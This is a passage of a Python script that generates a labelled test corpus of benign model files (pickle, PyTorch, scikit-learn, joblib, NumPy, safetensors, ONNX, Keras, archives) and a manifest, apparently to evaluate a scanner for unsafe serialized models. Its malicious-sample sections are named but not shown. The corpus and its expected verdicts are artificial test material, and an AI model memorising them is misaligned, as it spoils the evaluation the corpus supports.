        klass.__qualname__ = klass.__name__
        target = module if modname == USER_MODULE else sys.modules["__main__"]
        setattr(target, klass.__name__, klass)
        _USER_CLASSES[klass.__name__] = klass
    sys.modules[USER_MODULE] = module
    return module


def _benign_pickles(c: Corpus) -> None:
    import datetime
    import decimal
    import pathlib

    cls = "pickle"
    register_user_classes()
    plain = {
        "name": "resnet-tiny",
        "epochs": 12,
        "lr": 3e-4,
        "layers": [64, 128, 256],
        "flags": (True, False, None),
        "blob": b"\x00\x01\x02",
        "nested": {"a": [1.5, -2]},
    }
    for p in range(6):
        c.good(
            f"benign/pickle/config_proto{p}.pkl",
            pickle.dumps(plain, protocol=p),
            cls,
            f"plain dict of primitives, protocol {p}",
            "pickle",
        )
    c.good(
        "benign/pickle/collections.pkl",
        pickle.dumps(
            {
                "od": OrderedDict(a=1, b=2),
                "dd": defaultdict(list, {"x": [1]}),
                "counter": Counter("abca"),
                "set": {1, 2, 3},
                "fs": frozenset({"k"}),
                "ba": bytearray(b"xy"),
                "cx": complex(1, 2),
            },
            protocol=4,
        ),
        cls,
        "OrderedDict, defaultdict, Counter, set, frozenset, bytearray, complex",
        "pickle",
    )
    c.good(
        "benign/pickle/stdlib_values.pkl",
        pickle.dumps(
            {
                "when": datetime.datetime(2024, 5, 1, 12, 30),
                "day": datetime.date(2024, 5, 1),
                "dt": datetime.timedelta(hours=3),
                "price": decimal.Decimal("1.25"),
                "path": pathlib.PurePosixPath("/data/train"),
            },
            protocol=4,
        ),
        cls,
        "datetime, date, timedelta, Decimal, PurePosixPath",
        "pickle",
    )
    root = Node("root")
    child = Node("child")
    child.parent = root
    root.children.append(child)
    c.good(
        "benign/pickle/user_objects_with_cycle.pkl",
        pickle.dumps(
            {"cfg": TrainConfig(0.1, [4, 8], "run-1"), "stage": Stage.EVAL, "tree": root},
            protocol=5,
        ),
        cls,
        "user dataclass, user Enum, user object graph with a parent/child cycle",
        "pickle",
    )
    import zoneinfo

    c.good(
        "benign/pickle/datetime_zoneinfo.pkl",
        pickle.dumps(
            {
                "saved_at": datetime.datetime(2024, 5, 1, tzinfo=zoneinfo.ZoneInfo("UTC")),
                "utc": datetime.datetime(2024, 5, 1, tzinfo=datetime.UTC),
            },
            protocol=4,
        ),
        cls,
        "timestamps with ZoneInfo and timezone.utc (ZoneInfo pickles through getattr)",
        "pickle",
    )
    c.good(
        "benign/pickle/self_referencing_list.pkl",
        pickle.dumps(_self_list(), protocol=2),
        cls,
        "a list that contains itself (cycles are legal)",
        "pickle",
    )
    big = {f"layer{i}.weight": [float(j) for j in range(64)] for i in range(64)}
    c.good(
        "benign/pickle/large_nested_lists.pkl",
        pickle.dumps(big, protocol=5),
        cls,
        "64 keys of 64 floats each (framed protocol 5)",
        "pickle",
    )


def _self_list() -> list[Any]:
    lst: list[Any] = [1, 2]
    lst.append(lst)
    return lst


def _benign_torch(c: Corpus) -> None:
    import numpy as np

    torch = _torch()
    register_user_classes()
    mod = sys.modules[USER_MODULE]
    torch.manual_seed(0)
    cls = "pytorch-zip"
    net = mod.TinyNet()
    c.good(
        "benign/pytorch/state_dict.pt",
        torch_save(net.state_dict()),
        cls,
        "state_dict of a small MLP",
        "torch",
    )
    c.good(
        "benign/pytorch/pytorch_model.bin",
        torch_save(net.state_dict()),
        cls,
        "Hugging Face style pytorch_model.bin state dict",
        "torch",
    )
    c.good(
        "benign/pytorch/custom_top_folder.pth",
        torch_save(net.state_dict(), filename="my_checkpoint_epoch3.pth"),
        cls,
        "state dict saved to a file path: top folder named after the file",
        "torch",
    )
    dtypes = {
        str(dt).split(".")[1]: torch.ones(3, dtype=dt)
        for dt in (
            torch.float16,
            torch.bfloat16,
            torch.float64,
            torch.int8,
            torch.uint8,
            torch.int16,
            torch.int32,
            torch.int64,
            torch.bool,
            torch.complex64,
        )
    }
    c.good(
        "benign/pytorch/many_dtypes.pt", torch_save(dtypes), cls, "tensors of ten dtypes", "torch"
    )
    base = torch.arange(12.0)
    c.good(
        "benign/pytorch/shared_storage_views.pt",
        torch_save({"base": base, "view": base[2:6], "t": base.view(3, 4).t()}),
        cls,
        "tensors that share one storage (views, transpose)",
        "torch",
    )
    opt = torch.optim.Adam(net.parameters(), lr=1e-3)
    net(torch.ones(2, 4)).sum().backward()
    opt.step()
    sgd = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    sgd.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    c.good(
        "benign/pytorch/optimizer_adam.pt",
        torch_save(opt.state_dict()),
        cls,
        "Adam optimizer state dict",
        "torch",
    )
    c.good(
        "benign/pytorch/optimizer_sgd_momentum.pt",
        torch_save(sgd.state_dict()),
        cls,
        "SGD with momentum buffers",
        "torch",
    )
    gen = torch.Generator().manual_seed(7)
    c.good(
        "benign/pytorch/generator_object.pt",
        torch_save({"sampler_generator": gen, "numpy_rng": np.random.default_rng(3)}),
        cls,
        "a torch.Generator object and a NumPy Generator saved in a checkpoint (data-loader RNG)",
        "torch-any",
    )
    c.good(
        "benign/pytorch/rng_state.pt",
        torch_save({"cpu_rng": torch.get_rng_state()}),
        cls,
        "torch RNG state",
        "torch",
    )
    c.good(
        "benign/pytorch/training_checkpoint.pt",
        torch_save(
            {
                "epoch": 7,
                "step": 7000,
                "loss": 0.125,
                "model": net.state_dict(),
                "optimizer": opt.state_dict(),
                "scheduler": sched.state_dict(),
                "rng": torch.get_rng_state(),
                "best": {"acc": 0.91},
                "args": {
                    "lr": 1e-3,
                    "tags": ["a", "b"],
                    "shape": torch.Size([2, 3]),
                    "dtype": torch.float16,
                    "device": torch.device("cpu"),
                },
            }
        ),
        cls,
        "full training checkpoint: model, optimizer, scheduler, RNG, metadata",
        "torch",
    )
    c.good(
        "benign/pytorch/parameters_and_sparse.pt",
        torch_save(
            {
                "p": torch.nn.Parameter(torch.ones(2, 2)),
                "sparse": torch.sparse_coo_tensor([[0, 1], [1, 0]], [1.0, 2.0], (2, 2)),
            }
        ),
        cls,
        "nn.Parameter and a sparse COO tensor",
        "torch",
    )
    q = torch.quantize_per_tensor(
        torch.tensor([0.5, 1.0, 1.5]), scale=0.5, zero_point=0, dtype=torch.qint8
    )
    c.good(
        "benign/pytorch/quantized_tensor.pt",
        torch_save({"q": q}),
        cls,
        "per-tensor quantized tensor",
        "torch",
    )
    c.good(
        "benign/pytorch/full_module_user_class.pt",
        torch_save(mod.ConvBlock()),
        cls,
        "torch.save of a whole nn.Module whose classes live in a user package",
        "torch-full",
    )
    c.good(
        "benign/pytorch/full_module_main_class.pt",
        torch_save(mod.__dict__.get("MainNet") or sys.modules["__main__"].MainNet()),
        cls,
        "torch.save of a whole module defined in __main__ (a training script)",
        "torch-full",
    )
    seq = torch.nn.Sequential(
        torch.nn.Linear(4, 4),
        torch.nn.LayerNorm(4),
        torch.nn.GELU(),
        torch.nn.Dropout(0.1),
        torch.nn.Linear(4, 1),
    )
    c.good(
        "benign/pytorch/full_module_torch_nn.pt",
        torch_save(seq),
        cls,
        "torch.save of an nn.Sequential of built-in layers",
        "torch-full",
    )
    scripted = torch.jit.script(mod.TinyNet())
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    c.good(
        "benign/pytorch/torchscript.pt",
        _stable_torchscript(buf.getvalue()),
        cls,
        "TorchScript archive (torch.jit.save)",
        "torch-jit",
    )
    cls = "pytorch-legacy"
    c.good(
        "benign/pytorch_legacy/state_dict_legacy.pt",
        torch_save(net.state_dict(), legacy=True),
        cls,
        "legacy non-zip checkpoint (_use_new_zipfile_serialization=False)",
        "torch",
    )
    c.good(
        "benign/pytorch_legacy/checkpoint_legacy.pth",
        torch_save(
            {"epoch": 1, "model": net.state_dict(), "optimizer": sgd.state_dict()}, legacy=True
        ),
        cls,
        "legacy checkpoint with optimizer state",
        "torch",
    )


def _stable_torchscript(data: bytes) -> bytes:
    """TorchScript writes ``Final`` constants in set order and a random serialization id."""
    out = []
    for name, body in zip_members(data):
        if name.endswith("/.data/serialization_id"):
            body = b"0" * len(body)
        elif "/code/" in name and name.endswith(".py"):
            lines = body.decode("utf-8").split("\n")
            fixed: list[str] = []
            run: list[str] = []
            for line in [*lines, None]:
                if line is not None and ": Final[" in line:
                    run.append(line)
                    continue
                fixed.extend(sorted(run))
                run = []
                if line is not None:
                    fixed.append(line)
            body = "\n".join(fixed).encode("utf-8")
        out.append((name, body))
    return zip_bytes(out)


def _sklearn_models() -> list[tuple[str, Any]]:
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import make_classification
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import Lasso, LogisticRegression, Ridge
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import LabelEncoder, OneHotEncoder, StandardScaler
    from sklearn.svm import SVC, LinearSVC
    from sklearn.tree import DecisionTreeRegressor

    x, y = make_classification(n_samples=60, n_features=5, n_informative=3, random_state=0)
    cat = np.column_stack([x[:, :2], (x[:, 2] > 0).astype(int), (x[:, 3] > 0.5).astype(int)])
    texts = ["good model", "bad model", "great weights", "poor weights"] * 5
    tlabels = [1, 0, 1, 0] * 5
    models: list[tuple[str, Any]] = [
        ("logistic_regression", LogisticRegression().fit(x, y)),
        ("random_forest", RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)),
        (
            "random_forest_randomstate",
            RandomForestClassifier(n_estimators=2, random_state=np.random.RandomState(1)).fit(x, y),
        ),
        ("gradient_boosting", GradientBoostingClassifier(n_estimators=5, random_state=0).fit(x, y)),
        (
            "hist_gradient_boosting",
            HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(x, y),
        ),
        ("svc", SVC().fit(x, y)),
        ("knn", KNeighborsClassifier(n_neighbors=3).fit(x, y)),
        (
            "decision_tree_regressor",
            DecisionTreeRegressor(max_depth=3, random_state=0).fit(x, x[:, 0]),
        ),
        (
            "pipeline_scaler_pca_lr",
            Pipeline(
                [
                    ("scale", StandardScaler()),
                    ("pca", PCA(n_components=2)),
                    ("clf", LogisticRegression()),
                ]
            ).fit(x, y),
        ),
        (
            "column_transformer",
            Pipeline(
                [
                    (
                        "prep",
                        ColumnTransformer(
                            [
                                ("num", StandardScaler(), [0, 1]),
                                ("cat", OneHotEncoder(handle_unknown="ignore"), [2, 3]),
                            ]
                        ),
                    ),
                    ("clf", LogisticRegression()),
                ]
            ).fit(cat, y),
        ),
        ("kmeans", KMeans(n_clusters=2, n_init=1, random_state=0).fit(x)),
        ("mlp", MLPClassifier(hidden_layer_sizes=(4,), max_iter=30, random_state=0).fit(x, y)),
        ("ridge", Ridge().fit(x, x[:, 0])),
        ("lasso", Lasso(alpha=0.1).fit(x, x[:, 0])),
        ("isolation_forest", IsolationForest(n_estimators=3, random_state=0).fit(x)),
        ("gaussian_nb", GaussianNB().fit(x, y)),
        (
            "tfidf_linear_svc",
            _sorted_vocabulary(
                Pipeline([("tfidf", TfidfVectorizer()), ("svm", LinearSVC())]).fit(texts, tlabels)
            ),
        ),
        ("label_encoder", LabelEncoder().fit(["cat", "dog", "bird"])),
    ]
    return models


def _sorted_vocabulary(pipe: Any) -> Any:
    """TfidfVectorizer state is run-dependent (vocabulary order, an id()); pin it."""
    vec = pipe.named_steps["tfidf"]
    vec.vocabulary_ = dict(sorted(vec.vocabulary_.items()))
    vec._stop_words_id = 0  # it stores id(stop_words): a memory address
    return pipe


def _benign_sklearn(c: Corpus) -> None:
    models = _sklearn_models()
    protos = [2, 3, 4, 5]
    for i, (name, model) in enumerate(models):
        p = protos[i % len(protos)]
        c.good(
            f"benign/sklearn/{name}.pkl",
            pickle.dumps(model, protocol=p),
            "sklearn-pickle",
            f"scikit-learn {name}, pickle protocol {p}",
            "pickle",
        )
    cls = "joblib"
    compressors: list[tuple[str, Any]] = [
        ("none", 0),
        ("zlib", ("zlib", 3)),
        ("gzip", ("gzip", 3)),
        ("bz2", ("bz2", 3)),
        ("lzma", ("lzma", 3)),
        ("xz", ("xz", 3)),
        ("level3", 3),
    ]
    for i, (cname, arg) in enumerate(compressors):
        name, model = models[(i * 5) % len(models)]
        c.good(
            f"benign/joblib/{name}_{cname}.joblib",
            _joblib_dump(model, arg),
            cls,
            f"joblib.dump of {name}, compression {cname}",
            "joblib",
        )
    import numpy as np

    arrays = {
        "emb": np.arange(256, dtype=np.float32).reshape(16, 16),
        "ids": np.arange(10),
        "labels": np.array(["a", "bb", "ccc"], dtype=object),
    }
    c.good(
        "benign/joblib/arrays_with_object_labels.joblib",
        _joblib_dump(arrays),
        cls,
        "numeric arrays (raw bytes inside the stream) and an object array",
        "joblib",
    )
    c.good(
        "benign/joblib/arrays_protocol2_xz.joblib",
        _joblib_dump(arrays, ("xz", 1), protocol=2),
        cls,
        "the same at pickle protocol 2, xz",
        "joblib",
    )


def _benign_numpy(c: Corpus) -> None:
    import numpy as np

    cls = "numpy"

    def npy(arr: Any, allow_pickle: bool = False, version: tuple[int, int] | None = None) -> bytes:
        buf = io.BytesIO()
        if version is None:
            np.save(buf, arr, allow_pickle=allow_pickle)
        else:
            np.lib.format.write_array(
                buf, np.asanyarray(arr), version=version, allow_pickle=allow_pickle
            )
        return buf.getvalue()

    arrays: list[tuple[str, Any, bool, tuple[int, int] | None, str]] = [
        (
            "float32_2d",
            np.arange(12, dtype=np.float32).reshape(3, 4),
            False,
            None,
            "float32 matrix",
        ),
        ("int64", np.arange(100, dtype=np.int64), False, None, "int64 vector"),
        ("bool", np.array([True, False, True]), False, None, "bool"),
        ("complex128", np.array([1 + 2j, 3 - 1j]), False, None, "complex128"),
        (
            "structured",
            np.array([(1, 2.5, b"ab")], dtype=[("id", "<i4"), ("score", "<f8"), ("tag", "S2")]),
            False,
            None,
            "structured dtype",
        ),
        (
            "fortran_order",
            np.asfortranarray(np.arange(6.0).reshape(2, 3)),
            False,
            None,
            "Fortran order",
        ),
        ("scalar_0d", np.array(3.5), False, None, "0-d array"),
        ("empty", np.zeros((0, 4), dtype=np.float16), False, None, "empty array"),
        ("unicode", np.array(["alpha", "beta"]), False, None, "fixed-width unicode (<U5)"),
        ("header_v2", np.arange(4, dtype=np.uint8), False, (2, 0), "v2.0 header"),
        (
            "object_ints_strings",
            np.array([1, "two", 3.0, None], dtype=object),
            True,
            None,
            "object array of ints/strings/None (pickles builtins only)",
        ),
        (
            "object_nested_lists",
            np.array([[1, 2], [3], None], dtype=object),
            True,
            None,
            "object array of lists",
        ),
    ]
    for name, arr, allow, version, technique in arrays:
        c.good(
            f"benign/numpy/{name}.npy",
            npy(arr, allow, version),
            cls,
            technique,
            "numpy-pickle" if allow else "numpy",
        )
    buf = io.BytesIO()
    np.savez(buf, w=np.ones((2, 2)), b=np.zeros(2))
    c.good(
        "benign/numpy/savez.npz", _fix_npz(buf.getvalue()), cls, "np.savez of two arrays", "numpy"
    )
    buf = io.BytesIO()
    np.savez_compressed(buf, w=np.arange(1000.0))
    c.good(
        "benign/numpy/savez_compressed.npz",
        _fix_npz(buf.getvalue()),
        cls,
        "np.savez_compressed",
        "numpy",
    )
    buf = io.BytesIO()
    np.savez(buf, labels=np.array(["x", 1], dtype=object), w=np.ones(3))
    c.good(
        "benign/numpy/savez_object.npz",
        _fix_npz(buf.getvalue()),
        cls,
        ".npz with an object array of builtins",
        "numpy-pickle",
    )


def _fix_npz(data: bytes) -> bytes:
    """Rewrite an .npz with fixed timestamps (numpy stamps the current time)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = [(i.filename, zf.read(i), i.compress_type) for i in zf.infolist()]
    comp = members[0][2] if members else zipfile.ZIP_STORED
    return zip_bytes([(n, d) for n, d, _ in members], compression=comp)


def _benign_safetensors(c: Corpus) -> None:
    import numpy as np
    from safetensors.numpy import save as np_save
    from safetensors.torch import save as torch_save_st

    torch = _torch()
    cls = "safetensors"
    torch.manual_seed(0)
    c.good(
        "benign/safetensors/model.safetensors",
        torch_save_st({"fc.weight": torch.randn(8, 4), "fc.bias": torch.zeros(8)}),
        cls,
        "torch state dict",
        "safetensors",
    )
    c.good(
        "benign/safetensors/dtypes.safetensors",
        torch_save_st(
            {
                f"t_{i}": torch.ones(2, dtype=dt)
                for i, dt in enumerate(
                    (
                        torch.float16,
                        torch.bfloat16,
                        torch.int8,
                        torch.bool,
                        torch.int64,
                        torch.float64,
                    )
                )
            }
        ),
        cls,
        "six dtypes",
        "safetensors",
    )
    c.good(
        "benign/safetensors/with_metadata.safetensors",
        torch_save_st({"w": torch.ones(3)}, metadata={"format": "pt"}),
        cls,
        "__metadata__ of strings",
        "safetensors",
    )
    c.good(
        "benign/safetensors/numpy.safetensors",
        np_save({"emb": np.arange(20, dtype=np.float32).reshape(4, 5)}),
        cls,
        "written from NumPy",
        "safetensors",
    )
    c.good(
        "benign/safetensors/empty.safetensors",
        torch_save_st({}),
        cls,
        "no tensors at all",
        "safetensors",
    )
    c.good(
        "benign/safetensors/zero_size_and_scalar.safetensors",
        torch_save_st({"empty": torch.zeros(0, 3), "scalar": torch.tensor(2.0)}),
        cls,
        "a zero-size tensor and a 0-d scalar",
        "safetensors",
    )
    c.good(
        "benign/safetensors/float8_and_unsigned.safetensors",
        torch_save_st(
            {
                "f8e4m3": torch.zeros(4, dtype=torch.float8_e4m3fn),
                "f8e5m2": torch.zeros(4, dtype=torch.float8_e5m2),
                "u16": torch.zeros(4, dtype=torch.uint16),
                "u32": torch.zeros(4, dtype=torch.uint32),
                "c64": torch.zeros(2, dtype=torch.complex64),
            }
        ),
        cls,
        "float8 (E4M3, E5M2), uint16/uint32 and complex64 tensors",
        "safetensors",
    )
    c.good(
        "benign/safetensors/many_tensors.safetensors",
        torch_save_st({f"layers.{i}.weight": torch.full((4,), float(i)) for i in range(200)}),
        cls,
        "200 tensors",
        "safetensors",
    )


def _benign_onnx(c: Corpus) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    cls = "onnx"
    c.good(
        "benign/onnx/mlp/model.onnx",
        _onnx_model(_onnx_graph()).SerializeToString(),
        cls,
        "MatMul/Add/Relu with inline initializers",
        "onnx",
    )
    model = _onnx_model(_onnx_graph())
    folder = c.path("benign/onnx/external_same_folder/model.onnx").parent
    onnx.save_model(
        model,
        str(folder / "model.onnx"),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="model.onnx.data",
        size_threshold=0,
    )
    c.record(
        "benign/onnx/external_same_folder/model.onnx",
        cls,
        CLEAN,
        "external data in model.onnx.data next to the model",
        "",
        "onnx",
    )
    c.record("benign/onnx/external_same_folder/model.onnx.data", cls, AUX, "external data file")
    model = _onnx_model(_onnx_graph())
    folder = c.path("benign/onnx/external_subfolder/model.onnx").parent
    (folder / "weights").mkdir(exist_ok=True)
    for t in model.graph.initializer:
        raw = numpy_helper.to_array(t).tobytes()
        (folder / "weights" / f"{t.name}.bin").write_bytes(raw)
        _make_external(t, f"weights/{t.name}.bin", len(raw))
        c.record(
            f"benign/onnx/external_subfolder/weights/{t.name}.bin", cls, AUX, "external data file"
        )
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    c.record(
        "benign/onnx/external_subfolder/model.onnx",
        cls,
        CLEAN,
        "one external file per tensor in a weights/ subfolder",
        "",
        "onnx",
    )
    then_g = helper.make_graph(
        [helper.make_node("Identity", ["T"], ["o"])],
        "then",
        [],
        [helper.make_tensor_value_info("o", TensorProto.FLOAT, [3])],
        [numpy_helper.from_array(np.zeros(3, dtype=np.float32), "T")],
    )
    else_g = helper.make_graph(
        [helper.make_node("Identity", ["E"], ["o2"])],
        "else",
        [],
        [helper.make_tensor_value_info("o2", TensorProto.FLOAT, [3])],
        [numpy_helper.from_array(np.ones(3, dtype=np.float32), "E")],
    )
    g_if = helper.make_graph(
        [helper.make_node("If", ["cond"], ["out"], then_branch=then_g, else_branch=else_g)],
        "branchy",
        [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [3])],
    )
    c.good(
        "benign/onnx/if_subgraph/model.onnx",
        _onnx_model(g_if).SerializeToString(),
        cls,
        "If node with two branch subgraphs",
        "onnx",
    )
    g_ml = helper.make_graph(
        [helper.make_node("Normalizer", ["x"], ["y"], domain="ai.onnx.ml", norm="L2")],
        "ml",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    c.good(
        "benign/onnx/onnx_ml_domain/model.onnx",
        _onnx_model(g_ml, [("ai.onnx.ml", 3)]).SerializeToString(),
        cls,
        "standard ai.onnx.ml domain operator (Normalizer)",
        "onnx",
    )
    g_ms = helper.make_graph(
        [helper.make_node("FusedMatMul", ["a", "b"], ["y"], domain="com.microsoft", alpha=1.0)],
        "ort_contrib",
        [
            helper.make_tensor_value_info("a", TensorProto.FLOAT, [2, 3]),
            helper.make_tensor_value_info("b", TensorProto.FLOAT, [3, 2]),
        ],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2, 2])],
    )
    c.good(
        "benign/onnx/ort_contrib_op/model.onnx",
        _onnx_model(g_ms, [("com.microsoft", 1)]).SerializeToString(),
        cls,
        "onnxruntime contrib operator (com.microsoft FusedMatMul), as ORT optimizers write",
        "onnxruntime",
    )
    c.good(
        "benign/onnx/named_model.onnx",
        _onnx_model(_onnx_graph("named")).SerializeToString(),
        cls,
        "a model file not called model.onnx",
        "onnx",
    )


def _benign_keras(c: Corpus) -> None:
    cls = "keras"
    w = _keras_weights([("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])])
    seq = _ksequential([_kinput([None, 4]), _kdense("dense", 8), _kdense("dense_1", 2, "softmax")])
    c.good(
        "benign/keras/sequential.keras",
        _keras_zip(seq, w),
        cls,
        "Keras 3 Sequential of Dense layers",
        "keras-zip",
    )
    conv = _kobj(
        "keras.layers",
        "Conv2D",
        {
            "name": "conv2d",
            "filters": 2,
            "kernel_size": [3, 3],
            "strides": [1, 1],
            "padding": "valid",
            "activation": "relu",
            "use_bias": True,
        },
    )
    extra = [
        _kobj("keras.layers", "BatchNormalization", {"name": "bn", "axis": -1, "momentum": 0.99}),
        _kobj("keras.layers", "Flatten", {"name": "flatten"}),
        _kobj("keras.layers", "Dropout", {"name": "dropout", "rate": 0.5}),
    ]
    func = _kobj(
        "keras",
        "Functional",
        {
            "name": "functional",
            "trainable": True,
            "layers": [_kinput([None, 8, 8, 1]), conv, *extra, _kdense("dense", 2, "softmax")],
            "input_layers": [["input_layer", 0, 0]],
            "output_layers": [["dense", 0, 0]],
        },
    )
    wf = _keras_weights(
        [
            ("conv2d", [(3, 3, 1, 2), (2,)]),
            ("bn", [(2,), (2,), (2,), (2,)]),
            ("dense", [(72, 2), (2,)]),
        ]
    )
    c.good(
        "benign/keras/functional_cnn.keras",
        _keras_zip(func, wf),
        cls,
        "Keras 3 Functional CNN (Conv2D, BatchNormalization, Flatten, Dropout, Dense)",
        "keras-zip",
    )
    lstm = _ksequential(
        [
            _kinput([None, 5, 3]),
            _kobj(
                "keras.layers",
                "LSTM",
                {
                    "name": "lstm",
                    "units": 4,
                    "activation": "tanh",
                    "recurrent_activation": "sigmoid",
                },
            ),
            _kdense("dense", 1, "sigmoid"),
        ]
    )
    wl = _keras_weights([("lstm", [(3, 16), (4, 16), (16,)]), ("dense", [(4, 1), (1,)])])
    c.good("benign/keras/lstm.keras", _keras_zip(lstm, wl), cls, "Keras 3 LSTM model", "keras-zip")
    layers = [("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])]
    c.good(
        "benign/keras/legacy_model.h5",
        _keras_h5_model(
            _keras2_sequential([_keras2_dense("dense", 8, 4), _keras2_dense("dense_1", 2)]), layers
        ),
        cls,
        "Keras 2 HDF5 full model without Lambda",
        "hdf5",
    )
    c.good("benign/keras/model.weights.h5", w, cls, "Keras 3 weights-only HDF5", "hdf5")


def _benign_archives(c: Corpus) -> None:
    import numpy as np

    torch = _torch()
    cls = "archive"
    torch.manual_seed(0)
    sd = torch_save({"w": torch.ones(2, 2)})
    from safetensors.torch import save as st_save

    st = st_save({"w": torch.ones(2, 2)})
    buf = io.BytesIO()
    np.save(buf, np.arange(5.0))
    npy = buf.getvalue()
    c.good(
        "benign/archive/bundle.zip",
        zip_bytes(
            [
                ("model/state_dict.pt", sd),
                ("model/model.safetensors", st),
                ("model/config.json", b'{"hidden": 4}'),
            ]
        ),
        cls,
        "zip of a state dict, a safetensors file and JSON",
        "zip",
    )
    c.good(
        "benign/archive/arrays.tar.gz",
        tar_bytes([("a.npy", npy), ("b.npy", npy)], compression="gz"),
        cls,
        "tar.gz of .npy files",
        "tar",
    )
    model = _sklearn_models()[0][1]
    c.good(
        "benign/archive/sklearn_model.pkl.gz",
        gzip_bytes(pickle.dumps(model, protocol=4)),
        cls,
        "gzip of a scikit-learn pickle",
        "gzip",
    )
    c.good(
        "benign/archive/zip_in_zip.zip",
        zip_bytes([("inner.zip", zip_bytes([("model.safetensors", st)]))]),
        cls,
        "zip inside a zip holding safetensors",
        "zip",
    )
    onnx_bytes = _onnx_model(_onnx_graph()).SerializeToString()
    c.good(
        "benign/archive/onnx_model.tar",
        tar_bytes([("model/model.onnx", onnx_bytes), ("model/README.md", b"# model\n")]),
        cls,
        "tar of an ONNX model folder",
        "tar",
    )
    c.good(
        "benign/archive/torch_in_tar.tar.xz",
        tar_bytes([("ckpt/pytorch_model.bin", sd)], compression="xz"),
        cls,
        "tar.xz of a state dict",
        "tar",
    )
    c.good(
        "benign/archive/deflated_bundle.zip",
        zip_bytes([("weights.npy", npy), ("state.pt", sd)], compression=zipfile.ZIP_DEFLATED),
        cls,
        "deflated zip of a .npy and a state dict",
        "zip",
    )
    c.good(
        "benign/archive/nested_three_levels.zip",
        _nest(st, "model.safetensors", 3),
        cls,
        "safetensors three zips deep",
        "zip",
    )


# ----------------------------------------------------------------------------------------------
# Entry point
# ----------------------------------------------------------------------------------------------

_SECTIONS: tuple[Callable[[Corpus], None], ...] = (
    _pickle_protocols,
    _pickle_opcodes,
    _pickle_gadgets,
    _pickle_prefixes,
    _pickle_streams,
    _pickle_bombs,
    _pytorch_zip,
    _pytorch_legacy,
    _joblib,
    _numpy,
    _safetensors,
    _onnx,
    _keras,
    _archives,
    _polyglots,
    _wrong_extensions,
    _benign_pickles,
    _benign_torch,
    _benign_sklearn,
    _benign_numpy,
    _benign_safetensors,
    _benign_onnx,
    _benign_keras,
    _benign_archives,
)


def build_corpus(root: Path) -> list[Entry]:
    """Write the corpus under ``root/files`` and its manifest to ``root/manifest.json``."""
    root = Path(root)
    corpus = Corpus(root)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # sklearn convergence, deprecated modules, torch notices
        for section in _SECTIONS:
            section(corpus)
    manifest = {
        "version": 1,
        "files_root": "files",
        "entries": [dataclasses.asdict(e) for e in corpus.entries],
    }
    (root / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n", encoding="utf-8")
    return corpus.entries


def load_manifest(root: Path) -> list[Entry]:
    data = json.loads((Path(root) / "manifest.json").read_text(encoding="utf-8"))
    return [Entry(**e) for e in data["entries"]]


def summary(entries: Iterable[Entry]) -> dict[str, dict[str, int]]:
    """Counts per class and expected verdict."""
    out: dict[str, dict[str, int]] = {}
    for e in entries:
        out.setdefault(e.cls, {}).setdefault(e.expected, 0)
        out[e.cls][e.expected] += 1
    return out


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path, help="folder to write (files/ and manifest.json)")
    args = parser.parse_args(argv)
    entries = build_corpus(args.out)
    for cls, counts in sorted(summary(entries).items()):
        print(f"{cls:18} " + " ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    print(f"total {len(entries)} files in {args.out / 'files'}")
    return 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONHASHSEED", "0")
    sys.exit(main())
